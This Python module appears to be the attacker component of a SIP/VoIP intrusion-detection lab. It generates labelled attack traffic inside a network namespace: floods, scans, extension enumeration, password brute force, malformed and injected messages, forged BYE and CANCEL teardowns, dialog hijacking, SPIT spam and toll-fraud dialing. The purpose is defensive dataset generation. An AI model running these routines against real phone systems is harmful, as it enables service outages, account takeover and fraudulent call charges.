#!/usr/bin/python3
"""One launch of an attacker that builds its own messages, with the same builder as the honest phones.
Relies on: useragent.py, mutations.py, launch.py, a run's specification in JSON (see docs/lab.md).
Relied on by: run.py, live.py.
"""
import argparse
import asyncio
import json
import random
import sys
import time

import launch
import mutations
import sip
from styles import ADVERTISEMENTS, MESSAGE_TEXTS, draw_display, draw_number, draw_style
from useragent import Agent, Dialog, SentLog, World

EXAMPLE = """example of a specification:
  {"run": 1, "class": "flood", "seed": 7, "ip": "10.0.0.9", "port": 5060, "user": "100", "seconds": 10, "sent_log": "sent.tsv",
   "world": {"server": ["10.0.0.1", 5060], "domain": "10.0.0.1", "salt": "x", "weak": []},
   "users": ["100", "101"], "settings": {"method": "INVITE", "rate": 50, "victims": "unknown"}}
It never sends beyond `seconds`, nor to an address that the network namespace cannot reach."""


class Attack:
    def __init__(self, spec):
        self.spec, self.settings = spec, spec["settings"]
        self.rng = random.Random(spec["seed"])
        world = spec["world"]
        self.world = World(tuple(world["server"]), world["domain"], world["salt"], world["weak"], "")
        self.world.ws_port = world.get("ws_port", 0)
        self.users = spec["users"]
        self.log = SentLog(spec["sent_log"], spec["run"])
        self.count = 0

    def agent(self, ip=None, port=None, style=None):
        s = self.settings
        agent = Agent(
            self.world,
            self.rng,
            ip or self.spec["ip"],
            self.spec["port"] if port is None else port,
            self.spec["user"],
            style=style,
            profile={"answer": 1},
            wire=s.get("wire", "udp"),
        )
        agent.style.acks = s.get("acks", agent.style.acks)
        return agent

    def left(self):
        return self.end - time.time()

    async def pause(self):
        """Waits as the run's rate and rhythm say; False at the end of the run."""
        gap = 1 / self.settings["rate"]
        rhythm = self.settings.get("rhythm", "even")
        if rhythm == "random":
            gap = self.rng.expovariate(1 / gap)
        elif rhythm == "bursts":
            gap = gap * 10 if self.count % 10 == 0 else 0.002
        elif rhythm == "ramp":
            gap = gap * max(0.4, 2.2 - 2 * self.count / max(1, self.settings.get("limit", 200)))
        self.count += 1
        self.next = max(self.next + gap, time.time() - 0.05)
        await asyncio.sleep(max(0, self.next - time.time()))
        return self.left() > 0 and self.count <= self.settings.get("limit", 2000)

    async def run(self):
        self.main_agent = await self.agent().open()
        if self.settings.get("honest_first"):
            await self.honest(self.main_agent)
        self.next, self.end = time.time(), time.time() + self.spec["seconds"]
        self.main_agent.sent_log = self.log
        await getattr(self, self.spec["class"])(self.main_agent)
        await asyncio.sleep(self.settings.get("linger", 0.6))
        self.main_agent.sent_log = None
        if self.settings.get("honest_after"):
            await self.honest(self.main_agent)

    async def honest(self, agent):
        """The same socket, builder and account doing honest work: labelled benign."""
        acks, agent.style.acks = agent.style.acks, True
        await agent.register(60)
        for _ in range(self.rng.choice([1, 1, 2])):
            await agent.call(self.rng.choice(self.users), talk=self.rng.uniform(0.5, 2))
        await asyncio.sleep(0.5)
        agent.style.acks = acks

    # -- who is attacked --------------------------------------------------------------------------------

    def victim(self):
        return launch.victim(self.rng, self.settings, self.users, self.spec["seed"], self.count)

    def request(self, agent, method, user, **options):
        """A request of the run; identity and Call-ID stay or change as the settings say."""
        s, rng = self.settings, self.rng
        if s.get("identity") == "changing":
            agent.display = draw_display(rng)
            options.setdefault("from_user", rng.choice(self.users))
        if s.get("call_ids") == "same":
            self.same = getattr(self, "same", None) or agent.new_call_id()
            options.setdefault("call_id", self.same)
            options.setdefault("cseq", agent.style.first_cseq + self.count)
        if method in ("INVITE", "UPDATE"):
            options.setdefault("body", agent.offer() if rng.random() < s.get("sdp", 0.9) else b"")
        elif method == "MESSAGE":
            options.setdefault("body", rng.choice(MESSAGE_TEXTS).encode())
            options.setdefault("content_type", "text/plain")
        extra = list(options.pop("extra", []))
        if method == "REGISTER":
            message = agent.opening(method, user, extra=extra + [("Expires", "60")], **options)
            me = sip.name_addr(agent.style, agent.display, agent.aor(user))
            message.start = "REGISTER sip:%s SIP/2.0" % agent.domain
            message.set("From", me + ";tag=" + agent.new_tag())
            message.set("To", me)
            if rng.random() < 0.85:
                message.set("Contact", agent.contact(user=user))
            return message
        if method in ("SUBSCRIBE", "PUBLISH"):
            extra += [("Event", "presence"), ("Expires", "60")]
        return agent.opening(method, user, extra=extra, **options)

    def fire(self, agent, message, dest=None):
        """Sends without waiting for the reply; a style that acknowledges does so."""
        agent.spawn(
            agent.transact(
                message,
                dest,
                timeout=self.settings.get("patience", 1.0),
                retransmit=self.settings.get("retransmit", False),
            )
        )

    def method(self):
        m = self.settings.get("method", "INVITE")
        return self.rng.choice(m) if isinstance(m, list) else m

    # -- classes ----------------------------------------------------------------------------------------

    async def flood(self, agent):
        dest = tuple(self.settings["target"]) if self.settings.get("target") else None
        while await self.pause():
            if self.settings.get("raw_repeat") and self.count > 1:
                agent.send(self.repeated, dest)
                continue
            message = self.request(agent, self.method(), self.victim())
            self.repeated = sip.render(message, agent.style, self.rng)
            self.fire(agent, message, dest)

    async def distributed_flood(self, _):
        agents = []
        for ip, port in self.spec["sockets"]:
            agents.append(
                await self.agent(
                    ip, port, None if self.settings.get("styles", "many") == "many" else self.main_agent.style
                ).open()
            )
            agents[-1].sent_log = self.log
        victim = self.victim()
        while await self.pause():
            user = victim if self.settings.get("victims") == "one" else self.victim()
            agent = self.rng.choice(agents)
            self.fire(agent, self.request(agent, self.method(), user))
        await asyncio.sleep(1)

    async def scan(self, agent):
        hosts, ports, methods = (
            self.settings["hosts"],
            self.settings.get("ports", [5060]),
            self.settings.get("methods", ["OPTIONS"]),
        )
        probes = [(h, p, m) for h in hosts for p in ports for m in methods]
        if self.settings.get("shuffle", True):
            self.rng.shuffle(probes)
        for host, port, method in probes:
            if not await self.pause():
                break
            user = (
                self.rng.choice(["", "", "100", "ping", "nm"])
                if self.settings.get("user") is None
                else self.settings["user"]
            )
            message = self.request(
                agent,
                method,
                user,
                host="%s:%d" % (sip.bracket(host), port)
                if port != 5060 or self.rng.random() < 0.5
                else sip.bracket(host),
            )
            self.fire(agent, message, (host, port))

    async def enumeration(self, agent):
        while await self.pause():
            self.fire(agent, self.request(agent, self.method(), self.victim()))

    async def bruteforce(self, agent):
        """Guesses passwords: an answer per challenge, in parallel or one after the other."""
        method, accounts = self.settings.get("method", "REGISTER"), self.spec["accounts"]
        agents = [agent]
        for ip, port in self.spec.get("sockets", []):
            agents.append(await self.agent(ip, port).open())
            agents[-1].sent_log = self.log
        words = self.settings["passwords"]
        for i, word in enumerate(words):
            if not await self.pause():
                break
            guesser, user = agents[i % len(agents)], accounts[i % len(accounts)]
            guesser.spawn(self.guess(guesser, method, user, word))
        await asyncio.sleep(1.5)

    async def guess(self, agent, method, user, word):
        if method == "REGISTER":
            message = self.request(agent, "REGISTER", user)
        else:
            message = self.request(agent, method, self.users[0], from_user=user)
        if self.settings.get("reuse_nonce") and getattr(agent, "challenge", None):
            agent.authorise(message, agent.challenge, user, word)
            await agent.transact(message, timeout=2, retransmit=False)
            return
        reply = await agent.transact(message, timeout=2, retransmit=False)
        challenge = sip.challenge_of(reply) if reply else None
        if challenge:
            agent.challenge = challenge
            message = agent.again(message)
            agent.nonce_count = 0
            agent.authorise(message, challenge, user, word)
            reply = await agent.transact(message, timeout=2, retransmit=False)
            if reply and reply.status < 300 and method == "INVITE":
                agent.send(agent.hop_ack(message, reply))

    async def malformed(self, agent):
        dest = tuple(self.settings["target"]) if self.settings.get("target") else None
        kinds = self.settings.get("kinds") or list(mutations.MALFORMED)
        while await self.pause():
            if self.settings.get("mixed_styles"):
                agent.style = draw_style(self.rng)
            data = sip.render(self.request(agent, self.method(), self.victim()), agent.style, self.rng)
            data, _ = mutations.malformed(self.rng, data, kinds)
            agent.send(data, dest)

    async def injection(self, agent):
        dest = tuple(self.settings["target"]) if self.settings.get("target") else None
        kinds, fields = (
            self.settings.get("kinds") or list(mutations.INJECTIONS),
            self.settings.get("fields") or mutations.FIELDS,
        )
        while await self.pause():
            if self.settings.get("mixed_styles"):
                agent.style = draw_style(self.rng)
            message = self.request(agent, self.method(), self.victim())
            payload = mutations.INJECTIONS[self.rng.choice(kinds)](self.rng)
            for field in self.rng.sample(fields, min(len(fields), self.rng.choice([1, 1, 1, 2]))):
                message = mutations.inject(message, payload, field)
            self.fire(agent, message, dest)

    # -- attacks on dialogs -----------------------------------------------------------------------------

    def live_dialogs(self, state):
        """Dialogs that were noted within the last seconds, newest last."""
        with open(self.spec["dialog_log"]) as f:
            records = [json.loads(line) for line in f.readlines()[-60:] if line.endswith("\n")]
        seen = self.__dict__.setdefault("attacked", set())
        found = [
            r
            for r in records
            if r["state"] == state and r["call_id"] not in seen and r["caller"][0] != self.spec["ip"]
        ]
        if (
            self.settings.get("direct") or self.settings.get("kind") == "reply"
        ):  # what stays inside a site passes no sensor
            near = set(self.spec["near"])
            found = [
                r
                for r in found
                if r["caller"][0] not in near and (sip.host_port(r["target"]) or ("",))[0] not in near
            ]
        return found

    async def teardown(self, agent):
        """Forged BYE, CANCEL or final replies, with what a listener knows about the dialog."""
        kind = self.settings.get("kind", "bye")
        while await self.pause():
            found = self.live_dialogs("early" if kind in ("cancel", "reply") else "confirmed")
            if not found:
                self.count -= 1
                if self.left() < 0.5:
                    break
                continue
            d = found[-1]
            self.attacked.add(d["call_id"])
            if kind == "bye":
                self.forge_bye(agent, d)
            elif kind == "cancel":
                message = agent.message(
                    "CANCEL", d["uri"], d["local"], d["remote"].split(";tag=")[0], d["call_id"], d["cseq"]
                )
                message.set("Via", d["via"])
                agent.send(message)
            else:
                message = sip.Message(
                    "SIP/2.0 "
                    + self.rng.choice(
                        ["486 Busy Here", "603 Decline", "404 Not Found", "503 Service Unavailable"]
                    ),
                    [
                        ("Via", d["via"]),
                        ("From", d["local"]),
                        ("To", d["remote"]),
                        ("Call-ID", d["call_id"]),
                        ("CSeq", "%d INVITE" % d["cseq"]),
                    ],
                )
                if agent.style.user_agent:
                    message.headers.append(("Server", agent.style.user_agent))
                agent.send(message, tuple(d["caller"]))

    def forge_bye(self, agent, d):
        """To the callee in the caller's name, or the other way round; through the proxy or directly."""
        if self.rng.random() < 0.5:
            local, remote, target, routes, dest = (
                d["local"],
                d["remote"],
                d["target"],
                list(reversed(d["routes"])),
                None,
            )
        else:
            local, remote, target, routes, dest = (
                d["remote"],
                d["local"],
                d["caller_contact"],
                d["routes"],
                None,
            )
        if self.settings.get("direct"):
            routes, dest = [], sip.host_port(target)
        dialog = Dialog(
            d["call_id"], local, remote, target, routes, d["cseq"] + self.rng.choice([0, 1, 5, 20])
        )
        self.fire(agent, agent.in_dialog(dialog, "BYE"), dest)

    async def hijack(self, agent):
        if self.settings.get("kind") == "register":  # several accounts, each bound elsewhere, to this client
            for user in self.spec["accounts"]:
                if not await self.pause():
                    break
                agent.user = user
                agent.nonce = None
                agent.register_call_id = agent.new_call_id()
                await agent.register(30, user=user, password=self.world.password(user), timeout=2)
            await asyncio.sleep(1.5)
            return
        while await self.pause():
            found = self.live_dialogs("confirmed")
            if not found:
                self.count -= 1
                if self.left() < 0.5:
                    break
                continue
            d = found[-1]
            self.attacked.add(d["call_id"])
            dialog = Dialog(
                d["call_id"],
                d["local"],
                d["remote"],
                d["target"],
                list(reversed(d["routes"])),
                d["cseq"] + self.rng.choice([1, 2, 10]),
            )
            method = self.rng.choice(["INVITE", "UPDATE", "REFER"])
            extra = (
                [("Refer-To", "<sip:%s@%s>" % (draw_number(self.rng), agent.domain))]
                if method == "REFER"
                else []
            )
            message = agent.in_dialog(
                dialog, method, agent.offer() if method != "REFER" else b"", extra=extra
            )
            agent.spawn(self.take_over(agent, dialog, message))

    async def take_over(self, agent, dialog, message):
        reply = await agent.transact(message, timeout=3)
        if reply and reply.status < 300 and message.method == "INVITE":
            agent.send(agent.in_dialog(dialog, "ACK", cseq=int(message.get("CSeq").split()[0])))

    # -- fraud ------------------------------------------------------------------------------------------

    async def spit(self, agent):
        """One announcement to everybody."""
        callees = self.rng.sample(self.users, len(self.users))
        text = self.rng.choice(ADVERTISEMENTS + MESSAGE_TEXTS).encode()
        if self.settings.get("register", True):
            await agent.register(60)
        for callee in callees:
            if not await self.pause():
                break
            if self.method() == "MESSAGE":
                agent.spawn(
                    agent.authorised(
                        agent.opening("MESSAGE", callee, body=text, content_type="text/plain"), timeout=3
                    )
                )
            else:
                agent.spawn(agent.call(callee, talk=self.rng.uniform(0.5, 2.5), timeout=6))
        await asyncio.sleep(4)

    async def toll_fraud(self, agent):
        """A stolen account dials abroad: premium destinations, or prefixes until one works."""
        number = draw_number(self.rng).lstrip("+0")
        if self.settings.get("register", True):
            await agent.register(60)
        while await self.pause():
            dialled = draw_number(self.rng)
            if self.settings.get("kind") == "prefixes":
                dialled = (
                    self.rng.choice(
                        [
                            "",
                            "0",
                            "9",
                            "00",
                            "900",
                            "9011",
                            "011",
                            "+",
                            "000",
                            "810",
                            "1100",
                            "8800",
                            "*",
                            "99900",
                        ]
                    )
                    + number
                )
            agent.spawn(agent.call(dialled, talk=self.rng.uniform(1, 5), timeout=6))
        await asyncio.sleep(3)


def main():
    parser = argparse.ArgumentParser(
        description=__doc__.split("\n")[0],
        epilog=EXAMPLE,
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument("spec", help="JSON file with the run's specification")
    args = parser.parse_args()
    try:
        with open(args.spec) as f:
            spec = json.load(f)
    except (OSError, ValueError) as error:
        print("raw_attacker: %s: %s" % (args.spec, error), file=sys.stderr)
        return 2
    try:
        asyncio.run(Attack(spec).run())
    except KeyboardInterrupt:
        pass  # the session is over
    return 0


if __name__ == "__main__":
    sys.exit(main())
